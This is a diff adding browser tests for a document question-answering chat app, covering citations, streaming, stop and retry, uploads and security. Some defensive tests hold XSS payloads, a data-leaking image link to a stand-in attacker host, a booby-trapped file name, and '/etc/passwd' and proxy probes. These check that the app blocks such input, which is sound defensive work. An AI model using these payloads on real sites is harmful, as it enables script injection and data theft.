@@ -1,0 +1,302 @@
+import re
+import time
+from pathlib import Path
+
+import httpx
+import pytest
+from playwright.sync_api import FilePayload, expect
+
+from tests.browser.conftest import Visitors
+from tests.files import corrupt_pdf, rivers_pdf
+from tests.provider import Provider, Script
+from tests.server import Server
+from ui import UPDATES_PER_SECOND
+
+FUEL = "How much did fuel and electricity cost Harbour Line in 2025?"
+WORDS = tuple(f"word{number} " for number in range(100))
+
+COUNT_UPDATES = """() => {
+    window.updates = 0;
+    const text = () => [...document.querySelectorAll("[data-testid=bot]")].at(-1)?.textContent ?? "";
+    let last = text();
+    new MutationObserver(() => { if (text() !== last) { last = text(); window.updates += 1; } })
+        .observe(document.body, { subtree: true, childList: true, characterData: true });
+}"""
+
+
+def test_an_example_question_is_answered_with_a_footnote_to_its_page(quoting: Server, visitors: Visitors) -> None:
+    visitor = visitors.open(quoting)
+    visitor.page.get_by_role("button", name=FUEL).click()
+    visitor.wait_until_answered()
+    assert "Fuel and electricity cost Harbour Line €3.98 million in 2025" in visitor.answer
+    assert re.search(r"”\[\d+\]$", visitor.answer)
+    cited = visitor.page.locator(".src.cited")
+    expect(cited.first).to_contain_text("Harbour Line annual report 2025.pdf · page 4")
+    expect(visitor.page.locator(".others summary").first).to_contain_text("more passages found, not cited")
+    assert visitor.errors == []
+
+
+def test_the_page_shows_when_it_searches_and_when_it_writes(
+    writing: Server, model: Provider, visitors: Visitors
+) -> None:
+    model.script = Script(stall_at=0)
+    visitor = visitors.open(writing)
+    visitor.ask(FUEL)
+    step = visitor.page.locator(".step.busy")
+    expect(step).to_have_text(re.compile(r"Searched 2 documents, \d+ passages, \d+ ms · writing"))
+    visitor.page.get_by_role("button", name="Stop").click()
+    expect(visitor.page.locator(".step")).not_to_have_class(re.compile("busy"))
+
+
+def test_tokens_reach_the_page_at_most_fifteen_times_a_second_and_the_last_is_not_lost(
+    writing: Server, model: Provider, visitors: Visitors
+) -> None:
+    model.script = Script(tokens=WORDS, delay_s=0.01)
+    visitor = visitors.open(writing)
+    visitor.page.evaluate(COUNT_UPDATES)
+    started = time.monotonic()
+    visitor.ask(FUEL)
+    visitor.wait_until_answered()
+    took = time.monotonic() - started
+    updates = visitor.page.evaluate("window.updates")
+    assert visitor.answer == "".join(WORDS).strip()
+    assert 4 <= updates <= took * UPDATES_PER_SECOND + 4
+
+
+@pytest.mark.parametrize("stall_at", [0, 3])
+def test_stop_closes_the_connection_to_a_silent_model_and_keeps_what_arrived(
+    writing: Server, model: Provider, visitors: Visitors, stall_at: int
+) -> None:
+    model.script = Script(tokens=WORDS, stall_at=stall_at)
+    visitor = visitors.open(writing)
+    visitor.ask(FUEL)
+    if stall_at:
+        visitor.wait_for_text("word2")
+    else:
+        expect(visitor.page.locator(".step.busy")).to_contain_text("writing")
+    pressed = time.monotonic()
+    visitor.page.get_by_role("button", name="Stop").click()
+    assert model.wait_until_left() - pressed < 1.0
+    visitor.wait_until_answered()
+    expect(visitor.page.locator(".notice")).to_have_text("Stopped. What had arrived stays.")
+    assert visitor.answer == "".join(WORDS[:stall_at]).strip()
+
+
+def test_retry_asks_the_same_question_again_in_place_of_the_answer(
+    writing: Server, model: Provider, visitors: Visitors
+) -> None:
+    model.script = Script(tokens=("first",), drop_at=1)
+    visitor = visitors.open(writing)
+    visitor.ask(FUEL)
+    expect(visitor.page.locator(".notice.failed")).to_contain_text("The connection to the model's server failed.")
+    assert visitor.answer == "first"
+    model.script = Script(tokens=("second ", "[1]"))
+    visitor.page.get_by_role("button", name="Retry").click()
+    expect(visitor.page.locator(".notice.failed")).to_have_count(0)
+    visitor.wait_until_answered()
+    assert visitor.answer == "second[1]"
+    assert visitor.page.locator("[data-testid=user]").count() == 1
+
+
+def test_a_closed_tab_closes_the_connection_to_a_silent_model(
+    writing: Server, model: Provider, visitors: Visitors
+) -> None:
+    model.script = Script(tokens=WORDS, stall_at=2)
+    visitor = visitors.open(writing)
+    visitor.ask(FUEL)
+    visitor.wait_for_text("word1")
+    closed = time.monotonic()
+    visitor.page.close()
+    assert model.wait_until_left() - closed < 1.0
+
+
+def test_a_follow_up_tells_the_model_what_was_said_before(writing: Server, model: Provider, visitors: Visitors) -> None:
+    model.script = Script(tokens=("€3.98 million ", "[1]"))
+    visitor = visitors.open(writing)
+    visitor.ask(FUEL)
+    visitor.wait_until_answered()
+    visitor.ask("And in 2024?")
+    expect(visitor.page.locator(".tools")).to_have_count(2)
+    conversation = [(m["role"], m["content"]) for m in model.requests[-1].body["messages"] if m["role"] != "system"]
+    assert conversation == [("user", FUEL), ("assistant", "€3.98 million [1]"), ("user", "And in 2024?")]
+
+
+def test_a_document_is_added_asked_kept_over_a_reload_and_deleted(
+    quoting: Server, visitors: Visitors, tmp_path: Path
+) -> None:
+    file = tmp_path / "rivers.pdf"
+    file.write_bytes(rivers_pdf())
+    visitor = visitors.open(quoting)
+    visitor.page.locator("input[type=file]").set_input_files(file)
+    own = visitor.page.locator("#documents .doc")
+    expect(own).to_have_text([re.compile(r"rivers\.pdf2 pages")])
+    visitor.ask("How long is the Rhine?")
+    visitor.wait_until_answered()
+    assert visitor.answer == "“The Rhine is 1,230 km long.”[1]"
+    expect(visitor.page.locator(".src.cited")).to_contain_text("rivers.pdf · page 2")
+    visitor.page.reload()
+    expect(own).to_have_text([re.compile(r"rivers\.pdf")])
+    own.get_by_role("button", name="Delete rivers.pdf").click()
+    own.get_by_text("Delete?").click()
+    expect(visitor.page.locator("#documents .hint")).to_contain_text("These are samples.")
+
+
+def test_files_can_be_dropped_anywhere_and_a_bad_one_says_why(quoting: Server, visitors: Visitors) -> None:
+    visitor = visitors.open(quoting)
+    drop = """([files]) => {
+        const data = new DataTransfer();
+        for (const [name, bytes] of files) data.items.add(new File([new Uint8Array(bytes)], name));
+        document.body.dispatchEvent(new DragEvent("drop", { dataTransfer: data, bubbles: true, cancelable: true }));
+    }"""
+    files = [("rivers.pdf", list(rivers_pdf())), ("broken.pdf", list(corrupt_pdf())), ("empty.txt", [])]
+    visitor.page.evaluate(drop, [files])
+    expect(visitor.page.locator("#documents .bad")).to_have_text(
+        [
+            re.compile("“broken.pdf” is damaged and can't be opened"),
+            re.compile("The file is empty"),
+        ],
+        use_inner_text=True,
+    )
+    expect(visitor.page.locator("#documents .doc").first).to_contain_text("rivers.pdf")
+
+
+def test_two_visitors_see_their_own_documents_and_answers_only(
+    quoting: Server, visitors: Visitors, tmp_path: Path
+) -> None:
+    file = tmp_path / "rivers.pdf"
+    file.write_bytes(rivers_pdf())
+    one, other = visitors.open(quoting), visitors.open(quoting)
+    one.page.locator("input[type=file]").set_input_files(file)
+    expect(one.page.locator("#documents .doc")).to_have_text([re.compile("rivers.pdf")])
+    other.page.reload()
+    expect(other.page.locator("#documents .hint")).to_contain_text("These are samples.")
+    one.ask("How long is the Nile?")
+    other.ask(FUEL)
+    one.wait_until_answered()
+    other.wait_until_answered()
+    assert "Nile is 6,650 km long" in one.answer
+    assert "€3.98 million" in other.answer
+    assert "Nile" not in other.page.inner_text("body")
+
+
+HOSTILE = (
+    '<script>window.pwned = 1</script><img src="https://evil.example/a.png" onerror="window.pwned = 1">'
+    "![picture](https://evil.example/b.png?q=secret) [link](https://evil.example/c) "
+    '<form action="https://evil.example"><input name=x></form><style>body{display:none}</style> '
+    "![ref][1] `<img src=https://evil.example/d.png>` \\`<img src=https://evil.example/e.png>\\` "
+    '<iframe src="https://evil.example"></iframe> <a href="javascript:window.pwned=1">x</a>\n\n'
+    "[1]: https://evil.example/f.png\n\n```\n<img src=https://evil.example/g.png>\n```\n"
+)
+
+
+def test_html_and_image_links_of_a_document_a_question_and_an_answer_do_nothing(
+    writing: Server, model: Provider, visitors: Visitors, tmp_path: Path
+) -> None:
+    name = "<img src=x onerror=window.pwned=1>.md"
+    visitor = visitors.open(writing)
+    visitor.page.locator("input[type=file]").set_input_files(
+        FilePayload(name=name, mimeType="text/markdown", buffer=f"The harbour is hostile. {HOSTILE}".encode())
+    )
+    expect(visitor.page.locator("#documents .doc")).to_contain_text(["<img src=x onerror=window.pwned=1>.md"])
+    model.script = Script(tokens=(*HOSTILE, "The harbour is hostile ", "[1]"))
+    visitor.ask(f"What is the harbour? {HOSTILE}")
+    visitor.wait_until_answered()
+    visitor.page.locator("a.fn").last.click()
+    expect(visitor.page.locator(".src.cited .passage").first).to_be_visible()
+    inside = "[role=log] :is(script, img, iframe, form, input, style, object, svg image)"
+    assert visitor.page.locator(inside).count() == 0
+    links = visitor.page.locator("[role=log] .message a[href]:not([href^='#'])")
+    assert [
+        link.get_attribute("href") for link in links.all() if "javascript" in (link.get_attribute("href") or "")
+    ] == []
+    assert visitor.page.evaluate("window.pwned") is None
+    assert visitor.page.locator("body").is_visible()
+    assert visitor.errors == []
+
+
+def test_a_footnote_opens_its_source_by_keyboard_with_the_sentence_marked(quoting: Server, visitors: Visitors) -> None:
+    visitor = visitors.open(quoting)
+    visitor.ask(FUEL)
+    visitor.wait_until_answered()
+    visitor.page.locator("a.fn").last.focus()
+    visitor.page.keyboard.press("Enter")
+    expect(visitor.page.locator(".src.cited[open] mark")).to_contain_text(
+        re.compile(r"Fuel and electricity cost Harbour Line €3.98 million in 2025")
+    )
+
+
+def test_copy_gives_the_answer_with_its_footnotes_and_sources(
+    writing: Server, model: Provider, visitors: Visitors
+) -> None:
+    model.script = Script(tokens=("It cost **€3.98 million** ", "[1]", "."))
+    visitor = visitors.open(writing)
+    visitor.ask(FUEL)
+    visitor.wait_until_answered()
+    visitor.page.get_by_role("button", name="Copy").click()
+    visitor.page.get_by_text("Copied").wait_for()
+    copied = visitor.page.evaluate("navigator.clipboard.readText()")
+    assert re.fullmatch(r"It cost €3\.98 million \[1\]\.\n\n\[1\] .+ · page \d+", copied)
+
+
+def test_a_conversation_can_be_started_anew(writing: Server, model: Provider, visitors: Visitors) -> None:
+    visitor = visitors.open(writing)
+    visitor.ask(FUEL)
+    visitor.wait_until_answered()
+    visitor.page.get_by_role("button", name="Clear").click()
+    expect(visitor.page.locator("[data-testid=bot]")).to_have_count(0)
+    visitor.ask("And in 2024?")
+    visitor.wait_until_answered()
+    assert [m["role"] for m in model.requests[-1].body["messages"]] == ["system", "user"]
+
+
+@pytest.mark.parametrize("question", ["", "   \n  "])
+def test_an_empty_question_asks_nothing(quoting: Server, visitors: Visitors, question: str) -> None:
+    visitor = visitors.open(quoting)
+    visitor.ask(question)
+    visitor.page.get_by_role("button", name="Ask").click()
+    visitor.ask(FUEL)
+    visitor.wait_until_answered()
+    assert visitor.page.locator("[data-testid=user]").count() == 1
+
+
+def test_a_question_that_is_too_long_is_refused_in_words(quoting: Server, visitors: Visitors) -> None:
+    visitor = visitors.open(quoting)
+    visitor.ask("long " * 1000)
+    expect(visitor.page.locator(".notice.failed")).to_contain_text("longer than 4,000 characters")
+
+
+def test_the_page_fits_a_phone_and_keeps_documents_behind_one_button(quoting: Server, visitors: Visitors) -> None:
+    visitor = visitors.open(quoting, width=390, height=844)
+    assert visitor.page.evaluate("document.documentElement.scrollWidth") == 390
+    panel = visitor.page.locator("#documents-panel")
+    expect(panel).to_be_hidden()
+    visitor.page.get_by_role("button", name="Samples").click()
+    expect(panel).to_be_visible()
+    visitor.ask(FUEL)
+    visitor.wait_until_answered()
+    assert visitor.page.evaluate("document.documentElement.scrollWidth") == 390
+
+
+@pytest.mark.parametrize(
+    ("method", "path"),
+    [
+        ("POST", "/gradio_api/upload"),
+        ("GET", "/gradio_api/file=https://example.com/"),
+        ("GET", "/gradio_api/file=/etc/passwd"),
+        ("GET", "/gradio_api/proxy=https://example.com/"),
+        ("GET", "/gradio_api/info"),
+        ("POST", "/gradio_api/call/ask"),
+        ("POST", "/gradio_api/run/predict"),
+    ],
+)
+def test_gradios_doors_to_files_and_to_the_web_are_shut(quoting: Server, method: str, path: str) -> None:
+    with quoting.client() as client:
+        answer = client.request(method, path, files={"files": ("a.txt", b"a")} if method == "POST" else None)
+    assert (answer.status_code, answer.json()["error"]["code"]) == (httpx.codes.NOT_FOUND, "not_found")
+
+
+def test_browsers_are_told_to_load_nothing_from_elsewhere(quoting: Server) -> None:
+    with quoting.client() as client:
+        policy = client.get("/").headers["content-security-policy"]
+    assert "default-src 'self'" in policy
+    assert "connect-src 'self'" in policy
